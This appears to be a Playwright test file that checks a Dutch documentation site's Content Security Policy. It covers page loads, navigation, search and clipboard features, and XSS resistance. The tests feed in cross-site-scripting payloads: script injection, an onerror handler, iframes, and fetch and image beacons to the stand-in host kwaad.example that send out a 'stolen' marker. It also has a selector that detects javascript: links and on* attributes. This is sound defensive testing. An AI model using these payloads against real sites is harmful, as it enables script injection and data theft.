"""The site behind a real host, with its policy: all of it works, and what may not run does not run."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect

from tests.support.poison import STRINGS
from tests.support.tools import all_asked, open_menu

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext

    from tests.support.built import Site
    from tests.support.webservers import Host

pytestmark = pytest.mark.xdist_group("nginx")
# The page tells of each thing that the policy keeps from it, also of what happened before the test looks.
_LISTEN = """
addEventListener("securitypolicyviolation", event =>
  told(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`));
"""


class Watched:
    """A tab of which everything that goes wrong is written down."""

    def __init__(self, context: BrowserContext, host: Host) -> None:
        self.wrong: list[str] = []
        self._own = urlsplit(host.url).netloc
        context.expose_function("told", lambda what: self.wrong.append(what))
        context.add_init_script(_LISTEN)
        self.page = context.new_page()
        # The browser reports what it blocks before any script runs only here; a warning may be one too.
        self.page.on("console", lambda message: self._say(message.type in {"error", "warning"}, message.text))
        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
        self.page.on("request", lambda request: self._say(self._strange(request.url), request.url))
        # Aborted: the test went to the next page before this one had all it asked for.
        self.page.on(
            "requestfailed",
            lambda request: self._say("ERR_ABORTED" not in str(request.failure), f"failed: {request.url}"),
        )
        self.page.on(
            "response", lambda answer: self._say(answer.status >= 400, f"{answer.status} {answer.url}")
        )

    def _say(self, condition: bool, what: str) -> None:
        if condition:
            self.wrong.append(what)

    def _strange(self, address: str) -> bool:
        parts = urlsplit(address)
        return parts.scheme != "data" and parts.netloc != self._own


@pytest.fixture
def watched(browser: Browser, host: Host) -> Iterator[Watched]:
    context = browser.new_context(
        base_url=host.url, locale="nl-NL", reduced_motion="reduce", bypass_csp=False
    )
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=host.url)
    yield Watched(context, host)
    context.close()


def test_every_page_loads_and_runs_without_a_violation(site: Site, watched: Watched) -> None:
    page = watched.page
    for each in site.pages:
        page.goto(each.path)
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        all_asked(page)

    assert watched.wrong == []


def test_what_moves_around_the_content_works_under_the_policy(watched: Watched, host: Host) -> None:
    page = watched.page
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto("")
    page.locator(".ot-nav").get_by_role("link", name="Rode vlaggen", exact=True).click()
    page.wait_for_url("**/rode-vlaggen/")
    expect(page.get_by_role("heading", level=1)).to_have_text("Rode vlaggen")

    page.locator(".ot-part:has(#woord-en-daad)").get_by_role("link", name="Kopieer link").click()
    expect(page.get_by_role("status").filter(has_text="Link gekopieerd")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == f"{host.url}rode-vlaggen/#woord-en-daad"

    page.get_by_role("button", name="Donkere weergave").click()
    expect(page.locator("html")).to_have_attribute("data-md-color-scheme", "slate")
    page.reload()
    expect(page.locator("html")).to_have_attribute("data-md-color-scheme", "slate")

    page.locator(".ot-search__open").click()
    page.locator(".ot-search__field").fill("exitstrategie")
    page.locator(".ot-search__result a").first.click()
    page.wait_for_url(lambda address: "exitstrategie" in address)

    page.goto("fasen/intake/")
    page.locator(".ot-check label").first.click()
    expect(page.locator(".ot-check input").first).to_be_checked()
    page.evaluate("scrollTo(0, document.body.scrollHeight)")
    page.mouse.wheel(0, -400)

    assert watched.wrong == []


def test_the_menu_of_a_narrow_screen_works_under_the_policy(watched: Watched) -> None:
    page = watched.page
    page.set_viewport_size({"width": 360, "height": 740})
    page.goto("")
    open_menu(page)
    link = page.locator(".ot-nav").get_by_role("link", name="Gedachten").first
    expect(link).to_be_visible()
    link.click()
    page.wait_for_url("**/gedachten/")

    assert watched.wrong == []


_FOREIGN = """() => [...document.querySelectorAll('*')].filter(each =>
    each.matches('img, iframe, object, embed, style, base, b')
    || each.matches('a[href^="javascript:" i], a[href^="https://kwaad"]')
    || each.getAttributeNames().some(name => name.startsWith('on'))).map(each => each.outerHTML)"""


@pytest.mark.parametrize("path", ["", "onbekend/"])
def test_an_address_never_becomes_markup_or_script(watched: Watched, path: str) -> None:
    page = watched.page
    for text in (text for text in STRINGS if "<" in text or "javascript" in text):
        typed = quote(text, safe="")
        page.goto(f"{path}?q={typed}&h={typed}&items={typed}#{typed}")

        assert page.evaluate(_FOREIGN) == [], text
    # That the page is not there is no fault of the address.
    assert [what for what in watched.wrong if "404" not in what] == []


def test_what_is_typed_in_search_never_becomes_markup_or_script(watched: Watched) -> None:
    page = watched.page
    page.goto("")
    page.locator(".ot-search__open").click()
    for text in STRINGS:
        page.locator(".ot-search__field").fill(f"{text} opdracht")
        expect(page.locator(".ot-search__result").first).to_be_visible()
        assert page.locator(".ot-search__dialog :is(script, img, iframe, style, b)").count() == 0, text
        page.locator(".ot-search__field").fill("")

    assert watched.wrong == []


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'stolen = 1'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://kwaad.example/x.js'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=. onerror=\"stolen = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://kwaad.example/\"></iframe>')",
        "new Image().src = 'https://kwaad.example/?stolen'",
        "fetch('https://kwaad.example/').catch(() => 0)",
        "setTimeout('stolen = 1')",
    ],
)
def test_the_policy_stops_what_an_attacker_would_do(watched: Watched, attack: str) -> None:
    page = watched.page
    page.goto("")
    # Some are stopped with an error already.
    with page.expect_console_message(lambda message: message.type == "error"):
        page.evaluate(f"() => {{ try {{ {attack} }} catch {{}} }}")
    # What it would have run, or asked for, comes before what the page runs next.
    page.evaluate("() => new Promise(requestIdleCallback).then(() => true)")

    assert watched.wrong != []
    assert page.evaluate("window.stolen") is None


def test_the_policy_in_the_page_alone_stops_it_too(browser: Browser, base_url: str) -> None:
    # A host without headers, such as GitHub Pages.
    context = browser.new_context(base_url=base_url, bypass_csp=False)
    page = context.new_page()
    page.goto("")
    page.evaluate(
        """() => {
            const script = document.createElement('script')
            try { script.textContent = 'stolen = 1' } catch {}
            script.append('stolen = 1')
            document.body.append(script)
        }"""
    )

    assert page.evaluate("window.stolen") is None
    context.close()
